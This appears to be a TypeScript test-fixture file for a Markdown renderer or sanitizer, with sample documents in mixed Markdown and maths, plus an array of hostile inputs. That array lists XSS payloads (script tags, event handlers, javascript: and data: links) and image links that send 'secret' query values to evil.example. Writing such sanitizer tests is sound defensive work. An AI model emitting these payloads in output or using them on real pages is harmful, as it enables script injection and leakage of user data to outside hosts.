const FENCE = "```";

/** The document of the case: what models write, and what breaks when it is half there. */
export const MIXED = `Some prose with **bold words**, *slanted* ones, \`code\` and a [link](https://example.org/a_(b)?q=1).

## A heading with \`code\`

${FENCE}python
def f(*args, _x="$1"):
    return "\`" + f"{args}" # **not bold** | not a table

print(f(1))
${FENCE}

1. One
2. Two with **bold**
   and a second line
   - nested *deep*
   - [x] done

3. Three

   \`\`\`sh
   echo "nested"
   \`\`\`

| Name | Price | Where | Note |
|:-----|------:|-------|------|
| Pear | 1.20 | [shop](https://example.org/a/very/long/path/that/goes/on?with=query&and=more) | \`x\` |
| Plum | 0.80 | **here** | a \\| b |

> A quote with *stress*
> over two lines.

- loose

- items

Last words_with_underscores and 2 * 3 = 6, https://example.org/end, ***both***, ~~gone~~.

---

~~~
other fence
~~~
The end.
`;

/** Mathematics as models write it, beside money and shell. */
export const MATH = `It costs $5 now and $10 later, US$1,000–$2,500. Let $x^2_i$ be *slanted*, \\( a_1 * b_1 \\).

$$
\\frac{a}{b}
- c
+ d
= e
$$

Then
\\[
\\sum_{i=1}^n i
\\]
goes on with $$E = mc^2$$ and \`$HOME/$USER\`.

- item $y$
- another \\(z\\)

  $$
  q
  $$

> $$
> r_1 * r_2
> $$

$$ never closed
- one
- two

${FENCE}sh
echo $A $B $$
${FENCE}
`;

export const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt&#58;alert(1))",
  "[a](java\nscript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x)",
  "[a](//evil.example)",
  "[a](/\\evil.example)",
  "![x](https://evil.example/p.png?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '<img src="https://evil.example/p?q=secret">',
  "![x][r]\n\n[r]: https://evil.example/r",
  "[![x](https://evil.example/p.png)](javascript:alert(1))",
  "<style>@import url(https://evil.example/s)</style>",
  "<form action=https://evil.example><button>x</button></form>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  'write to "a\'onclick=alert(1)"@evil.example or a@evil.example',
  "<javascript:alert(1)>",
  "| a |\n|---|\n| ![x](https://evil.example/t.png) |\n",
  "- ![x](https://evil.example/l.png)\n- <img src=https://evil.example/i>\n",
  "```html\n<script>alert(1)</script>\n```\n",
  "# ![x](https://evil.example/h.png) <b onmouseover=alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
];
